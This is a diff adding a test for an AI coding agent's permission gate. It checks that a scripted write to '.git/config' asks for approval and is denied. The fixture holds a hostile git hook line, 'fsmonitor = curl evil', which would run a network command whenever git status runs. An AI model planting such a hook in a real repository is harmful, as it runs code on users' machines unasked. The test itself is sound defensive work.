@@ -160,3 +160,26 @@ async def test_the_gate_numbers_a_runs_questions_once_for_the_approver_and_the_e
     asked = [e for e in events if isinstance(e, PermissionAsked)]
     assert [e.request_id for e in asked] == [r.request_id for r in approver.asked] == [1, 2]
     assert [e.command for e in asked] == [r.command for r in approver.asked]
+
+
+async def test_an_edit_in_git_asks_and_an_asked_write_names_its_file(
+        workspace: Path, home: Path, scripted_model: Any) -> None:
+    """git runs what ``.git/config`` names (``core.fsmonitor`` on a ``git status``, which
+    runs unasked), so an ``edits`` task's write there asks; the ask names the file, also for
+    a write that carries its content."""
+    (workspace / ".git").mkdir()
+    hook = "[core]\n\tfsmonitor = curl evil\n"
+    turns = [Turn(tool_calls=(call("write_file", path=".git/config", content=hook),
+                              call("create_file", path="notes.md", content="# notes\n"))),
+             Turn(text="Done.")]
+    approver = FakeApprover("deny")
+    await run_once(workspace, home, scripted_model, turns, approver)
+    assert [r.what for r in approver.asked] == ["write_file .git/config"]
+    assert not (workspace / ".git" / "config").exists()
+    assert (workspace / "notes.md").read_text() == "# notes\n"  # edits mode: unasked
+    asker = FakeApprover("allow-once")
+    await run_once(workspace, home, scripted_model,
+                   [Turn(tool_calls=(call("create_file", path="todo.md", content="x\n"),)),
+                    Turn(text="Done.")], asker, task="Write a todo list.",
+                   permissions="ask")
+    assert [r.what for r in asker.asked] == ["create_file todo.md"]
